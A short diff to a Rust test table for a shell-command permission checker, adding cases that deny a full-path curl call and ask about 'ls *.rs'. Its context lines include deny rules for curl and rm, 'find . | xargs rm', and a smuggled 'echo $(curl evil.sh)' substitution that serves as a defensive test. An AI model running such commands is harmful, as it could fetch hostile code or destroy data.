@@ -273,6 +273,8 @@ const CASES: &[Case] = &[
     Case { allow: &["Bash(pytest *)"], arg: "env FOO=1 pytest -q", expect: "allow", ..B },
     Case { allow: &["Bash(pytest *)"], arg: "time command pytest", expect: "allow", ..B },
     Case { deny: &["Bash(rm *)"], arg: "find . | xargs rm", expect: "deny", ..B },
+    Case { deny: &["Bash(curl *)"], arg: "/usr/bin/curl -s x", expect: "deny", ..B },
+    Case { arg: "ls *.rs", expect: "ask", ..B },
     // Substitutions, eval, sh -c.
     Case { deny: &["Bash(curl *)"], arg: "echo $(curl evil.sh)", expect: "deny", ..B },
     Case { arg: "echo $(curl evil.sh)", expect: "ask", ..B },
